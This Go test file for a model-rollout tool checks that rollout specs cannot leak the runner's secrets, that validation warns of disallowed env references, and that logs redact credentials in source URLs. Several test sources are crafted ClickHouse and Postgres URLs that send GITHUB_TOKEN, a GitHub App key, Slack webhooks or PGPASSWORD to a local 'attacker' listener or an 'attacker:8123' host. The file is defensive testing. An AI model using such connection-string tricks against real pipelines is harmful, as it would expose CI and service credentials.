package main

import (
	"bytes"
	"encoding/base64"

	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/rollout-dev/rollout/internal/gittest"
)

// secretSpec is a running rollout whose metrics source is SOURCE.
const secretSpec = `apiVersion: rollout/v1
kind: Rollout
name: NAME
stable:
  model: claude-sonnet-4-5-20260301
canary:
  model: claude-sonnet-4-5-20260415
traffic:
  weight: 5
stages:
  - {weight: 5, minDuration: 1h, minRequests: 200}
  - {weight: 100, minDuration: 1h}
metrics:
  source: SOURCE
analysis:
  rules:
    - {metric: error_rate, max: 0.1}
rollback:
  notify: [{slack: env:ROLLOUT_SLACK_WEBHOOK_URL}]
status:
  phase: Progressing
  stage: 0
  stageStartedAt: 2026-04-16T09:00:00Z
`

// listener counts the connections a host the spec chose receives, and keeps what they sent.
type listener struct {
	ln   net.Listener
	mu   sync.Mutex
	n    int
	seen bytes.Buffer
}

func listen(t *testing.T) *listener {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	l := &listener{ln: ln}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			l.mu.Lock()
			l.n++
			l.mu.Unlock()
			go func() {
				defer c.Close()
				_ = c.SetDeadline(time.Now().Add(2 * time.Second))
				buf := make([]byte, 4096)
				n, _ := c.Read(buf)
				l.mu.Lock()
				l.seen.Write(buf[:n])
				l.mu.Unlock()
			}()
		}
	}()
	return l
}

func (l *listener) connections() (int, string) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.n, l.seen.String()
}

// TestASpecCannotSendTheRunnersSecrets (issue 22 item 1): a spec chooses the host of its metrics source
// and the env: name sent there as a password. A name the operator did not allow is never read, and the
// host is never contacted: GitHub's token (even when listed), a notifier's URL, a plain PGPASSWORD. An
// allowed ROLLOUT_ name reaches the server as the password (the control: the harness sees a leak).
func TestASpecCannotSendTheRunnersSecrets(t *testing.T) {
	attacker := listen(t)
	host := attacker.ln.Addr().String()
	secrets := map[string]string{
		"GITHUB_TOKEN":              "ghs_runnertoken0123456789",
		"GH_TOKEN":                  "gho_ghclitoken0123456789",
		"GITHUB_APP_PRIVATE_KEY":    "-----BEGIN RSA PRIVATE KEY-----appkey",
		"SLACK_WEBHOOK_URL":         "http://127.0.0.1:1/T0/B0/slacksecret",
		"ROLLOUT_SLACK_WEBHOOK_URL": "http://127.0.0.1:1/T0/B0/rolloutslack",
		"PGPASSWORD":                "pgpassword-not-for-specs",
		"ROLLOUT_ALLOW_ENV":         "GITHUB_TOKEN,GH_TOKEN,SLACK_WEBHOOK_URL",
	}
	sources := map[string]string{
		"ch-userinfo":  "clickhouse://x:env:GITHUB_TOKEN@" + host + "/db",
		"ch-param":     "clickhouse://x@" + host + "/db?password=env:SLACK_WEBHOOK_URL",
		"ch-notifier":  "clickhouse://x@" + host + "/db?password=env:ROLLOUT_SLACK_WEBHOOK_URL",
		"pg-userinfo":  "postgres://x:env:GH_TOKEN@" + host + "/db?sslmode=disable",
		"pg-pgpass":    "postgres://x@" + host + "/db?sslmode=disable&password=env:PGPASSWORD",
		"pg-appkey":    "postgres://x@" + host + "/db?sslmode=disable&password=env:GITHUB_APP_PRIVATE_KEY",
		"pg-implicit":  "postgres://x@" + host + "/db?sslmode=disable&connect_timeout=1", // pgx would read PGPASSWORD itself
		"ch-escaped":   "clickhouse://x@" + host + "/db?password=env%3AGITHUB_TOKEN",
		"pg-otherparm": "postgres://x@" + host + "/db?sslmode=disable&application_name=env:GITHUB_TOKEN",
	}
	files := map[string]string{}
	for name, src := range sources {
		spec := strings.NewReplacer("NAME", name, "SOURCE", src).Replace(secretSpec)
		files["rollouts/"+name+".yaml"] = spec
	}
	bare := gittest.NewBare(t, files)
	for _, args := range [][]string{{"plan"}, {"plan", "--allow-env", "GITHUB_TOKEN", "--allow-env", "PGPASSWORD,GH_TOKEN"}, {"reconcile"}} {
		var out, errOut bytes.Buffer
		app := &App{Stdout: &out, Stderr: &errOut, Stdin: strings.NewReader(""), Getenv: func(k string) string { return secrets[k] },
			Now: func() time.Time { return time.Date(2026, 4, 16, 10, 0, 0, 0, time.UTC) }}
		code := app.Main(append(args, "--repo", bare))
		all := out.String() + errOut.String()
		t.Logf("%v: exit %d\n%s", args, code, all)
		for _, name := range []string{"GITHUB_TOKEN", "GH_TOKEN", "SLACK_WEBHOOK_URL", "ROLLOUT_SLACK_WEBHOOK_URL"} {
			if !strings.Contains(all, "env:"+name) {
				t.Errorf("%v: the output does not name the refused env:%s", args, name)
			}
		}
		for k, v := range secrets {
			if k != "ROLLOUT_ALLOW_ENV" && strings.Contains(all, v) {
				t.Errorf("%v: the output holds the value of %s", args, k)
			}
		}
	}
	n, seen := attacker.connections()
	for k, v := range secrets {
		if k == "ROLLOUT_ALLOW_ENV" {
			continue
		}
		if strings.Contains(seen, v) || strings.Contains(seen, base64.StdEncoding.EncodeToString([]byte("x:"+v))) {
			t.Errorf("the spec's host received %s", k)
		}
	}
	// Only the sources without a refused reference connect (pg-implicit), and not with PGPASSWORD.
	t.Logf("the spec's host got %d connections", n)

	// The control: an allowed name is sent, so the listener would have seen a leak.
	got := make(chan string, 4)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, pass, _ := r.BasicAuth()
		got <- pass
		http.Error(w, "no", http.StatusUnauthorized)
	}))
	defer srv.Close()
	src := "clickhouse://x:env:ROLLOUT_CH_PASS@" + strings.TrimPrefix(srv.URL, "http://") + "/db"
	bare = gittest.NewBare(t, map[string]string{"rollouts/ok.yaml": strings.NewReplacer("NAME", "ok", "SOURCE", src).Replace(secretSpec)})
	app := &App{Stdout: &bytes.Buffer{}, Stderr: &bytes.Buffer{}, Getenv: func(k string) string {
		if k == "ROLLOUT_CH_PASS" {
			return "allowed-password"
		}
		return ""
	}, Now: func() time.Time { return time.Date(2026, 4, 16, 10, 0, 0, 0, time.UTC) }}
	app.Main([]string{"plan", "--repo", bare})
	select {
	case p := <-got:
		if p != "allowed-password" {
			t.Errorf("the allowed password arrived as %q", p)
		}
	default:
		t.Error("an allowed ROLLOUT_ name was not sent: the control failed")
	}
}

// TestValidateWarnsOfEnvOutsideTheAllowList: every env: reference of a source or a gate outside the
// allow-list is a warning at its file:line:col (a gate may not read a notification target's variable);
// a notification target's own name is not.
func TestValidateWarnsOfEnvOutsideTheAllowList(t *testing.T) {
	dir := t.TempDir()
	spec := strings.NewReplacer("NAME", "summarizer", "SOURCE", "clickhouse://x:env:GITHUB_TOKEN@attacker:8123/db?password=env:PGPASSWORD").Replace(secretSpec)
	spec = strings.Replace(spec, "  - {weight: 100, minDuration: 1h}", "  - {weight: 100, minDuration: 1h, gate: {webhook: env:ROLLOUT_SLACK_WEBHOOK_URL}}", 1)
	writeFile(t, dir+"/rollouts/summarizer.yaml", spec)
	var out, errOut bytes.Buffer
	app := &App{Stdout: &out, Stderr: &errOut, Getenv: func(k string) string {
		if k == "ROLLOUT_SLACK_WEBHOOK_URL" {
			return "https://hooks.example/x"
		}
		return ""
	}}
	code := app.Main([]string{"validate", "--repo", dir})
	t.Logf("exit %d\n%s%s", code, out.String(), errOut.String())
	for _, want := range []string{
		"rollouts/summarizer.yaml:14:26: warning: metrics.source: env:GITHUB_TOKEN is never resolved from a spec",
		"rollouts/summarizer.yaml:14:69: warning: metrics.source: env:PGPASSWORD is not allowed",
		"ROLLOUT_ALLOW_ENV=PGPASSWORD or --allow-env PGPASSWORD",
		"rollouts/summarizer.yaml:12:52: warning: stages[1].gate.webhook: env:ROLLOUT_SLACK_WEBHOOK_URL is never resolved from a spec (a notification target references it)",
	} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("validate does not say %q", want)
		}
	}
	if strings.Contains(out.String(), "rollback.notify") {
		t.Error("validate warns of a notification target's own variable")
	}
	var out2 bytes.Buffer
	app.Stdout = &out2
	app.Main([]string{"validate", "--repo", dir, "--allow-env", "PGPASSWORD"})
	if strings.Contains(out2.String(), "env:PGPASSWORD") || !strings.Contains(out2.String(), "env:GITHUB_TOKEN") {
		t.Errorf("with --allow-env PGPASSWORD:\n%s", out2.String())
	}

}

func writeFile(t *testing.T, path, text string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
}

// TestRedactSource: a source in a message keeps where it points, never who logs in or with what.
func TestRedactSource(t *testing.T) {
	for _, tt := range []struct{ src, want string }{
		{"file:traffic/x.jsonl", "file:traffic/x.jsonl"},
		{"prometheus:http://127.0.0.1:9090", "prometheus:http://127.0.0.1:9090"},
		{"prometheus:http://promuser:PromSecret-55@127.0.0.1:9090/api", "prometheus:http://127.0.0.1:9090/api"},
		{"prometheus:https://u:p@prom.example/?token=Tok", "prometheus:https://prom.example/"},
		{"postgres://reader:Secret@db:5432/telemetry?sslmode=disable&password=Secret", "postgres://db:5432/telemetry"},
		{"clickhouse://rollout@ch:8123/default?password=env:ROLLOUT_CH", "clickhouse://ch:8123/default"},
		{"postgres://reader:Sec%zzret@db/telemetry", "postgres://db/telemetry"},      // does not parse
		{"prometheus:http://u:Sec%zz/ret@h:1/x?y=Secret", "prometheus:http://h:1/x"}, // nor this
	} {
		got := redactSource(tt.src)
		if got != tt.want || strings.Contains(got, "Sec") || strings.Contains(got, "Tok") {
			t.Errorf("redactSource(%q) = %q, want %q", tt.src, got, tt.want)
		}
	}
}

// TestEvaluateNeverPrintsTheSourcePassword: a Prometheus server that does not answer is a failed run,
// whose messages name the server without its basic-auth password, with -o json too.
func TestEvaluateNeverPrintsTheSourcePassword(t *testing.T) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := l.Addr().String()
	l.Close() // nothing listens there now
	for _, output := range []string{"text", "json"} {
		app, out, errOut := testApp()
		code := app.Main([]string{"evaluate", "--spec", "testdata/evaluate/summarizer.yaml", "-o", output,
			"--metrics", "prometheus:http://promuser:PromSecret-55@" + addr, "--now", "2026-04-16T06:00:00Z"})
		if code != exitFailed {
			t.Errorf("-o %s: exit %d, want 1", output, code)
		}
		if all := out.String() + errOut.String(); strings.Contains(all, "PromSecret") || !strings.Contains(errOut.String(), "prometheus:http://"+addr) {
			t.Errorf("-o %s: the password was printed, or the server not named:\n%s", output, all)
		}
	}
}
